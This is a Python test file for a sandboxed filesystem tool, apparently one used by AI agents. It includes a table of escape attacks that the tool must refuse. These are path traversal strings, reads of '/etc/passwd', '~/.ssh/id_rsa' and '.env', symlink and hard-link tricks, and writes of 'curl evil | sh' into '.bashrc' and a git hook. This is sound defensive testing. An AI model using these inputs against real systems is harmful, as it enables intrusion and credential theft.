"""The filesystem tool: what it does, and everything that must not get it out of its folder."""

from __future__ import annotations

import os
import socket
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from gathering.core.errors import ConfigurationError, ToolFailed, UnknownNameError
from gathering.core.messages import ToolCall
from gathering.core.permissions import PermissionRequest
from gathering.core.registry import create_tool
from gathering.core.results import ToolPermission, ToolResult
from gathering.tools.filesystem import FileSystemTool
from gathering.tools.filesystem_portable import ReadOnlyRoot
from gathering.tools.filesystem_root import Root
from gathering.tools.filesystem_rules import Rules, names_in
from gathering.tools.permissions import Policy

ALL = ("read", "write", "delete")
SECRET = "the secret"


@pytest.fixture
def root(tmp_path: Path) -> Path:
    """A folder with two files, and beside it what nobody may see."""
    folder = tmp_path / "root"
    (folder / "notes").mkdir(parents=True)
    (folder / "a.txt").write_text("alpha\nbudget 1\n")
    (folder / "notes" / "b.md").write_text("# beta\nThe Budget is 2.\n")
    (folder / ".env").write_text(SECRET)
    outside = tmp_path / "root_evil"
    outside.mkdir()
    (outside / "x.txt").write_text(SECRET)
    (tmp_path / "secret.txt").write_text(SECRET)
    return folder


@pytest.fixture
def files(root: Path) -> FileSystemTool:
    return FileSystemTool(root, ALL)


def do(tool: FileSystemTool, action: str, path: Any = None, content: Any = None) -> ToolResult:
    arguments = {"action": action, "path": path, "content": content}
    return tool.execute({k: v for k, v in arguments.items() if v is not None})


# What it is for


def test_the_acts_of_the_tool(files: FileSystemTool, root: Path) -> None:
    """Write makes folders, read gives the text back, info describes, list names, delete removes."""
    assert do(files, "write", "new/deep/c.txt", "héllo").output == "wrote new/deep/c.txt (6 bytes)"
    assert do(files, "read", "./new/deep/c.txt").output == "héllo"
    info = do(files, "info", "new/deep/c.txt").output
    assert (info["path"], info["type"], info["size"]) == ("new/deep/c.txt", "file", 6)
    assert do(files, "list").output == ["a.txt", "new/", "notes/"]
    assert do(files, "write", "new/deep/c.txt", "").output == "replaced new/deep/c.txt (0 bytes)"
    assert do(files, "delete", "new/deep/c.txt").success
    assert do(files, "delete", "new/deep/").success
    assert not (root / "new" / "deep").exists()
    assert do(files, "info").output["type"] == "folder"


@pytest.mark.parametrize(
    ("path", "content", "found"),
    [
        (".", "budget", ["a.txt:2: budget 1", "notes/b.md:2: The Budget is 2."]),
        ("notes", "budget", ["notes/b.md:2: The Budget is 2."]),
        ("*.md", None, ["notes/b.md"]),
        ("**/*.txt", "", ["a.txt"]),
        ("notes/*.md", "beta", ["notes/b.md:1: # beta"]),
        ("*/*.md", None, ["notes/b.md"]),
        (None, "nowhere", []),
    ],
)
def test_search_finds_names_and_lines(
    files: FileSystemTool, path: str | None, content: str | None, found: list[str]
) -> None:
    """By a pattern, by what is in the files in any case, or by both."""
    assert do(files, "search", path, content).output == found


def test_a_file_is_replaced_at_once_and_keeps_its_mode(files: FileSystemTool, root: Path) -> None:
    """No half-written file is ever seen: the old one stays whole until the new one takes its place."""
    (root / "a.txt").chmod(0o640)
    with (root / "a.txt").open() as reader:
        assert do(files, "write", "a.txt", "new").success
        assert reader.read() == "alpha\nbudget 1\n"
    assert (root / "a.txt").stat().st_mode & 0o777 == 0o640
    assert sorted(p.name for p in root.iterdir()) == [".env", "a.txt", "notes"]


def test_a_write_that_fails_leaves_nothing_behind(
    files: FileSystemTool, root: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A full disk: the old file stays, no draft remains, and the model is told."""

    def full(fd: int) -> None:
        raise OSError(28, "No space left on device")

    with monkeypatch.context() as patched:
        patched.setattr(os, "fsync", full)
        result = do(files, "write", "a.txt", "new")
    assert result.error == "'a.txt' could not be written: the disk is full"
    assert (root / "a.txt").read_text() == "alpha\nbudget 1\n"
    assert sorted(p.name for p in root.iterdir()) == [".env", "a.txt", "notes"]


def test_names_are_one_name_however_they_are_composed(files: FileSystemTool, root: Path) -> None:
    """A file from a system that writes accents apart is found, shown composed, and not doubled."""
    (root / "cafe\u0301.txt").write_text("old")
    assert "caf\u00e9.txt" in do(files, "list").output
    assert do(files, "read", "caf\u00e9.txt").output == "old"
    assert do(files, "write", "cafe\u0301.txt", "new").success
    assert do(files, "read", "caf\u00e9.txt").output == "new"
    assert len(list(root.glob("caf*"))) == 1
    assert do(files, "write", "u\u0308ber.txt", "x").success
    assert (root / "\u00fcber.txt").exists()


@pytest.mark.parametrize(
    ("content", "text"),
    [
        (b"\xef\xbb\xbfwith a mark", "with a mark"),
        ("größer".encode("utf-16"), "größer"),
        ("Müller wohnt in Köln am Rhein".encode("latin-1"), "M\ufffdller wohnt in K\ufffdln am Rhein"),
        (b"", ""),
    ],
)
def test_text_is_read_in_the_usual_encodings(
    files: FileSystemTool, root: Path, content: bytes, text: str
) -> None:
    """A mark at the beginning is understood; a single strange byte does not make a text unreadable."""
    (root / "t.txt").write_bytes(content)
    assert do(files, "read", "t.txt").output == text


def test_binary_files_are_named_as_such(files: FileSystemTool, root: Path) -> None:
    """They are not poured into a prompt, and a search passes over them."""
    (root / "p.png").write_bytes(b"\x89PNG\r\n\0budget")
    assert do(files, "read", "p.png").error == "'p.png' is a binary file of 13 bytes, not text"
    assert do(files, "search", "*.png", "budget").output == []


def test_long_listings_and_searches_end(root: Path) -> None:
    """Twelve thousand files give as many lines as allowed, and a line that says so."""
    many = root / "many"
    many.mkdir()
    for number in range(12_000):
        (many / f"{number:05}").touch()
    files = FileSystemTool(root, max_entries=100)
    listed = do(files, "list", "many").output
    assert listed[:2] == ["00000", "00001"]
    assert listed[100:] == ["... and 11,900 more"]
    assert do(files, "search", "many/*").output[100:] == ["... stopped after 100 matches"]


def test_a_search_stops_when_its_time_is_up(root: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """It says how far it came instead of going on."""
    files = FileSystemTool(root, timeout=5)
    clock = iter([0.0, 1.0, 1.0, 9.0, 9.0])
    monkeypatch.setattr("gathering.tools.filesystem.time.monotonic", lambda: next(clock))
    result = do(files, "search", "*")
    assert result.output == ["a.txt", "... stopped after 5 s: search a smaller folder"]
    assert result.metadata == {"complete": False}


def test_sizes_are_bounded(root: Path) -> None:
    """A file that is too big is neither read nor written, and a tool does not fill a disk."""
    files = FileSystemTool(root, ALL, max_bytes=20, max_written=3000)
    (root / "big.txt").write_text("x" * 21)
    assert "max_bytes" in str(do(files, "read", "big.txt").error)
    assert "max_bytes" in str(do(files, "write", "c.txt", "x" * 21).error)
    assert do(files, "write", "c.txt", "x").success
    assert do(files, "write", "d.txt", "x").success
    assert "max_written" in str(do(files, "write", "e.txt", "x").error)
    assert do(files, "read", "c.txt").output == "x"


def test_what_is_hidden_or_linked_twice_is_opened_by_an_option(root: Path, tmp_path: Path) -> None:
    """The strict rules can be taken off where the owner of the folder says so."""
    os.link(tmp_path / "secret.txt", root / "second.txt")
    files = FileSystemTool(root, allow_hidden=True, allow_hard_links=True)
    assert do(files, "list").output == [".env", "a.txt", "notes/", "second.txt"]
    assert do(files, "read", ".env").output == SECRET
    assert do(files, "read", "second.txt").output == SECRET


# Attacks. Each prepares something and says the arguments of the call.


def symlink(name: str, target: str) -> Callable[[Path], None]:
    return lambda root: (root / name).symlink_to(target)


def hard_link(root: Path) -> None:
    os.link(root.parent / "secret.txt", root / "hard.txt")


def device(root: Path) -> None:
    os.mknod(root / "zero", 0o020666, os.makedev(1, 5))


def pipe(root: Path) -> None:
    os.mkfifo(root / "pipe")


def unix_socket(root: Path) -> None:
    here = Path.cwd()
    os.chdir(root)  # the path of a socket may not be long
    try:
        with socket.socket(socket.AF_UNIX) as listener:
            listener.bind("sock")
    finally:
        os.chdir(here)


def nothing(root: Path) -> None:
    """The attack is in the arguments alone."""


ATTACKS: dict[str, tuple[Callable[[Path], None], str, Any, Any]] = {
    "upwards": (nothing, "read", "../secret.txt", None),
    "upwards from within": (nothing, "read", "notes/../../secret.txt", None),
    "upwards at the end": (nothing, "list", "notes/..", None),
    "a sibling with the same prefix": (nothing, "read", "../root_evil/x.txt", None),
    "absolute": (nothing, "read", "/etc/passwd", None),
    "absolute with two slashes": (nothing, "read", "//etc/passwd", None),
    "absolute in a search": (nothing, "search", "/etc/*", None),
    "upwards in a search": (nothing, "search", "../*.txt", None),
    "upwards in a search for words": (nothing, "search", "..", "secret"),
    "the root of the process": (nothing, "read", "/proc/self" + "/root" + "/etc/passwd", None),
    "backslashes": (nothing, "read", "..\\secret.txt", None),
    "a drive": (nothing, "read", "C:/Windows/win.ini", None),
    "a stream of a file": (nothing, "read", "a.txt::$DATA", None),
    "a share": (nothing, "read", "\\\\server\\share", None),
    "a URL": (nothing, "read", "file:///etc/passwd", None),
    "home": (nothing, "read", "~/.ssh/id_rsa", None),
    "somebody's home": (nothing, "list", "~root", None),
    "a null byte": (nothing, "read", "a.txt\0.png", None),
    "a line end": (nothing, "write", "a\nb.txt", "x"),
    "an invisible character": (nothing, "read", "\u200b.env", None),
    "turned round": (nothing, "write", "exe.\u202etxt", "x"),
    "full-width dots": (nothing, "read", "\uff0e\uff0e/secret.txt", None),
    "a two-dot leader": (nothing, "read", "\u2025/secret.txt", None),
    "a full-width slash": (nothing, "read", "..\uff0fsecret.txt", None),
    "a full-width colon": (nothing, "read", "c\uff1a", None),
    "half a character": (nothing, "read", "\udce9.txt", None),
    "a hidden file": (nothing, "read", ".env", None),
    "a hidden file to write": (nothing, "write", ".bashrc", "curl evil | sh"),
    "a hidden folder to write": (nothing, "write", ".git/hooks/post-checkout", "evil"),
    "a hidden file to delete": (nothing, "delete", ".env", None),
    "a hidden file in full-width": (nothing, "read", "\uff0eenv", None),
    "a long name": (nothing, "write", "n" * 256, "x"),
    "a long path": (nothing, "write", "/".join(["n" * 200] * 40), "x"),
    "a deep path": (nothing, "write", "d/" * 500 + "x", "x"),
    "a link to a file": (symlink("l.txt", "../secret.txt"), "read", "l.txt", None),
    "a link to a folder": (symlink("out", "../root_evil"), "read", "out/x.txt", None),
    "a link to a folder to list": (symlink("out", "../root_evil"), "list", "out", None),
    "a link to a folder to search": (symlink("out", "../root_evil"), "search", "out", "secret"),
    "a link to everything": (symlink("out", "/"), "read", "out/etc/passwd", None),
    "a link to write through": (symlink("l.txt", "../secret.txt"), "write", "l.txt", "gone"),
    "a folder to write through": (symlink("out", "../root_evil"), "write", "out/x.txt", "gone"),
    "a link to nowhere to write through": (symlink("l.txt", "../made.txt"), "write", "l.txt", "x"),
    "a folder to delete through": (symlink("out", "../root_evil"), "delete", "out/x.txt", None),
    "a link to delete": (symlink("l.txt", "../secret.txt"), "delete", "l.txt", None),
    "a link to ask about": (symlink("l.txt", "../secret.txt"), "info", "l.txt", None),
    "a link inside the root": (symlink("l.txt", "a.txt"), "read", "l.txt", None),
    "a link to itself": (symlink("loop", "loop"), "read", "loop/x", None),
    "a hard link": (hard_link, "read", "hard.txt", None),
    "a hard link to write through": (hard_link, "write", "hard.txt", "gone"),
    "a pipe": (pipe, "read", "pipe", None),
    "a pipe to write into": (pipe, "write", "pipe", "x"),
    "a socket": (unix_socket, "read", "sock", None),
    "a device": (device, "read", "zero", None),
    "a file as a folder": (nothing, "read", "a.txt/b", None),
    "a folder as a file": (nothing, "read", "notes", None),
    "a folder to replace": (nothing, "write", "notes", "x"),
    "the root to delete": (nothing, "delete", ".", None),
    "the root to write": (nothing, "write", "", "x"),
    "a full folder to delete": (nothing, "delete", "notes", None),
    "an act there is not": (nothing, "chmod", "a.txt", None),
    "a path that is no text": (nothing, "read", ["a.txt"], None),
    "content that is no text": (nothing, "write", "c.txt", {"a": 1}),
    "content with half a character": (nothing, "write", "c.txt", "\ud800"),
}


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_trick_leaves_the_root(attack: str, root: Path, files: FileSystemTool) -> None:
    """Each is a failed result of one line; nothing outside is seen or changed; the tool goes on working."""
    prepare, action, path, content = ATTACKS[attack]
    try:
        prepare(root)
    except PermissionError:
        pytest.skip("only the superuser makes devices")
    before = sorted(root.parent.rglob("*"))
    result = do(files, action, path, content)
    assert not result.success
    assert result.output is None
    assert result.error
    assert len(result.error.splitlines()) == 1
    assert SECRET not in result.error
    assert sorted(root.parent.rglob("*")) == before
    assert (root.parent / "secret.txt").read_text() == SECRET
    assert (root.parent / "root_evil" / "x.txt").read_text() == SECRET
    assert do(files, "read", "a.txt").output == "alpha\nbudget 1\n"


def test_what_may_not_be_read_is_not_listed_or_found(files: FileSystemTool, root: Path) -> None:
    """Links, pipes, hidden files and files with a second name do not show up at all."""
    symlink("out", "../root_evil")(root)
    symlink("l.txt", "../secret.txt")(root)
    hard_link(root)
    pipe(root)
    assert do(files, "list").output == ["a.txt", "notes/"]
    assert do(files, "search", ".", "secret").output == []
    assert do(files, "search", "*").output == ["a.txt", "notes/b.md"]


@pytest.mark.parametrize(
    ("action", "path"), [("read", "notes/x.txt"), ("write", "notes/x.txt"), ("delete", "notes/x.txt")]
)
def test_a_folder_exchanged_for_a_link_at_the_worst_moment(
    files: FileSystemTool, root: Path, monkeypatch: pytest.MonkeyPatch, action: str, path: str
) -> None:
    """Between looking at a folder and opening it somebody puts a link in its place: the link is not followed."""
    really_open = os.open

    def exchange(name: Any, *args: Any, **options: Any) -> int:
        if name == "notes" and not (root / "notes").is_symlink():
            (root / "notes").rename(root / "moved")
            (root / "notes").symlink_to("../root_evil")
        return really_open(name, *args, **options)

    monkeypatch.setattr(os, "open", exchange)
    result = do(files, action, path, "gone" if action == "write" else None)
    assert not result.success
    assert (root.parent / "root_evil" / "x.txt").read_text() == SECRET


def test_a_file_exchanged_for_a_pipe_is_not_waited_for(
    files: FileSystemTool, root: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """What was opened is looked at again, and opening never waits for somebody to write."""
    really_open = os.open

    def exchange(name: Any, *args: Any, **options: Any) -> int:
        if name == "a.txt":
            (root / "a.txt").unlink()
            os.mkfifo(root / "a.txt")
        return really_open(name, *args, **options)

    monkeypatch.setattr(os, "open", exchange)
    assert do(files, "read", "a.txt").error == "'a.txt' is a pipe, not a file"


@given(st.text(alphabet="./\\:~ab\0\u2025\uff0e\u200d\u0301", max_size=30) | st.text(max_size=30))
def test_a_path_that_passes_is_a_plain_name_below(path: str) -> None:
    """Whatever is written: it is refused, or it consists of names that lead nowhere else."""
    try:
        names = names_in(path)
    except ToolFailed:
        return
    for name in names:
        assert name not in ("", ".", "..")
        assert not set(name) & set("/\\:\0\u200d")
        assert not name.startswith((".", "~"))
    assert names_in("/".join(names)) == names


# Permissions


@pytest.mark.parametrize(
    ("granted", "action", "path"),
    [
        ("read", "write", "c.txt"),
        ("read", "delete", "a.txt"),
        ("write", "read", "a.txt"),
        ("write", "list", "."),
        ("write", "search", "*"),
        ("write", "info", "a.txt"),
        ("write", "delete", "a.txt"),
        ("delete", "write", "a.txt"),
    ],
)
def test_an_act_without_its_permission_is_refused(root: Path, granted: str, action: str, path: str) -> None:
    """The result says which act was refused and which there are."""
    tool = FileSystemTool(root, granted)
    result = do(tool, action, path, "x" if action in ("write", "search") else None)
    assert not result.success
    assert f"has no permission to {action}" in str(result.error)
    assert (root / "a.txt").read_text() == "alpha\nbudget 1\n"
    assert not (root / "c.txt").exists()
    assert action not in tool.get_parameters_schema()["properties"]["action"]["enum"]
    assert all(arguments["action"] != action for _, arguments in tool.get_examples())


def test_reading_is_what_is_allowed_if_nothing_is_said(root: Path) -> None:
    """Nothing is written by default."""
    tool = FileSystemTool.from_config({"base_path": str(root)})
    assert tool.permissions == {ToolPermission.READ}


def test_rules_see_the_act_and_the_path_as_the_tool_does(files: FileSystemTool) -> None:
    """However a path is written, a rule about it is asked about the same path."""
    assert files.permission_for({"action": "delete"}) is ToolPermission.DELETE
    assert files.permission_for({"action": "read"}) is ToolPermission.READ
    assert files.permission_for({"action": ["read"]}) is ToolPermission.DELETE
    for spelled in ("notes/caf\u00e9.txt", "./notes//cafe\u0301.txt", "notes/./caf\u00e9.txt/"):
        assert files.targets({"action": "read", "path": spelled}) == {
            "action": "read",
            "path": "notes/caf\u00e9.txt",
        }
    assert files.targets({"action": "list"})["path"] == "."
    assert files.targets({"action": "read", "path": "../x"})["path"] == "../x"


@pytest.mark.parametrize(
    ("arguments", "decided"),
    [
        ({"action": "search", "path": ".", "content": "x"}, "deny"),
        ({"action": "search", "path": "*.txt"}, "deny"),
        ({"action": "search", "path": "notes", "content": "x"}, "allow"),
        ({"action": "list", "path": "private"}, "deny"),
        ({"action": "list", "path": "./PRIVATE/"}, "deny"),
        ({"action": "list", "path": "."}, "allow"),
        (
            {"action": "read", "path": "notes/../private/a.txt"},
            "allow",
        ),  # the tool refuses such a path itself
        ({"action": "read", "path": "private//./a.txt"}, "deny"),
    ],
)
def test_a_rule_about_a_folder_counts_for_what_comes_by_it(
    files: FileSystemTool, arguments: dict[str, Any], decided: str
) -> None:
    """A search from above, a list and every spelling of a path below are the folder's."""
    call = ToolCall("c1", "filesystem", arguments)
    asked = PermissionRequest("ada", call, files.permission_for(arguments).value, files.targets(arguments))
    assert Policy(["deny filesystem path=private/**", "allow filesystem"]).decide(asked).effect == decided


# Being made, and being called wrongly


def test_it_is_made_by_its_name(root: Path) -> None:
    """``{"name": "filesystem", ...}`` is enough; permissions may be written in any case."""
    tool = create_tool({"name": "filesystem", "base_path": str(root), "permissions": ["READ", "write"]})
    assert isinstance(tool, FileSystemTool)
    assert tool.execute({"action": "write", "path": "c.txt", "content": "x"}).success
    other = create_tool({"name": "docs", "type": "filesystem", "base_path": root})
    assert (other.name, other.is_available()) == ("docs", True)


@pytest.mark.parametrize(
    ("options", "said"),
    [
        ({}, "needs a base_path"),
        ({"base_path": "no-such-folder"}, "make it first"),
        ({"base_path": ""}, "name a folder"),
        ({"base_path": ".", "permissions": ["fly"]}, "Known permissions"),
        ({"base_path": ".", "max_bytes": -1}, "above 0"),
        ({"base_path": ".", "timeout": "5"}, "above 0"),
    ],
)
def test_a_tool_that_cannot_be_made_says_why(options: dict[str, Any], said: str) -> None:
    """A wrong option is the caller's mistake, with the way out in the message."""
    with pytest.raises(ConfigurationError, match=said):
        FileSystemTool.from_config(options)


def test_a_misspelt_option_is_named(root: Path) -> None:
    """So that strictness is never lost to a typing error."""
    with pytest.raises(UnknownNameError, match="did you mean 'permissions'"):
        FileSystemTool.from_config({"base_path": str(root), "permission": ["read"]})


@pytest.mark.parametrize(
    "wrong",
    [
        "a.txt",
        None,
        42,
        {},
        {"path": "a.txt"},
        {"action": "write", "path": "c.txt"},
        {"action": "read"},
        {"action": "read", "pth": "a.txt"},
        {"action": "red", "path": "a.txt"},
        {"action": ["read"], "path": "a.txt"},
    ],
)
def test_input_it_cannot_use_is_explained(files: FileSystemTool, wrong: Any) -> None:
    """Bad input is a failed result with the same line as the check beforehand, never an exception."""
    result = files.execute(wrong)
    assert not result.success
    assert result.error == files.why_invalid(wrong)
    assert not files.validate_input(wrong)


async def test_awaited_it_does_the_same(files: FileSystemTool) -> None:
    """One behaviour for both worlds."""
    assert (await files.execute_async({"action": "read", "path": "a.txt"})).output == "alpha\nbudget 1\n"


def test_a_root_that_went_away_is_said(files: FileSystemTool, root: Path) -> None:
    """A deleted folder makes the tool unavailable, not the turn fail."""
    root.rename(root.parent / "elsewhere")
    assert not files.is_available()
    assert "does not exist" in str(do(files, "list").error)


# Where folders cannot be opened relative to each other


@pytest.fixture
def portable(root: Path, monkeypatch: pytest.MonkeyPatch) -> FileSystemTool:
    """The tool as it is on Windows."""
    with monkeypatch.context() as patched:
        patched.setattr(os, "supports_dir_fd", set())
        return FileSystemTool(root, ALL)


READING = [name for name, attack in ATTACKS.items() if attack[1] in ("read", "list", "search", "info")]


@pytest.mark.parametrize("attack", READING)
def test_the_portable_root_stops_what_reads(attack: str, root: Path, portable: FileSystemTool) -> None:
    """The weaker form, too, refuses every attack that does not win a race."""
    prepare, action, path, content = ATTACKS[attack]
    try:
        prepare(root)
    except PermissionError:
        pytest.skip("only the superuser makes devices")
    result = do(portable, action, path, content)
    assert not result.success
    assert SECRET not in str(result.error)
    assert do(portable, "read", "a.txt").output == "alpha\nbudget 1\n"


@pytest.mark.parametrize("name", ["NUL", "con.txt", "COM1", "lpt\u00b9", "aux .md", "a.txt.", "a.txt "])
def test_the_portable_root_knows_the_names_of_devices(portable: FileSystemTool, name: str) -> None:
    """Names that mean something else to Windows are no files."""
    assert "no name of a file" in str(do(portable, "read", name).error)


def test_the_portable_root_only_reads(portable: FileSystemTool, root: Path) -> None:
    """It says so, and lists, searches and describes as the other one does."""
    assert "only reads" in str(do(portable, "write", "c.txt", "x").error)
    assert "only reads" in str(do(portable, "delete", "a.txt").error)
    assert do(portable, "list", "notes").output == ["b.md"]
    assert do(portable, "search", ".", "beta").output == ["notes/b.md:1: # beta"]
    assert do(portable, "info", "a.txt").output["size"] == 15
    assert do(portable, "info").output["type"] == "folder"


def test_the_portable_root_compares_where_a_path_comes_out(root: Path) -> None:
    """What resolves to somewhere else is refused, whatever the names looked like a moment before."""
    (root.parent / "alias").symlink_to(root)
    with pytest.raises(ToolFailed, match="leads out of the root"):
        ReadOnlyRoot(root.parent / "alias", Rules()).read(["a.txt"])


def test_the_system_decides_which_root(files: FileSystemTool, portable: FileSystemTool) -> None:
    """The strong form wherever there is one."""
    assert type(files._root) is Root
    assert type(portable._root) is ReadOnlyRoot
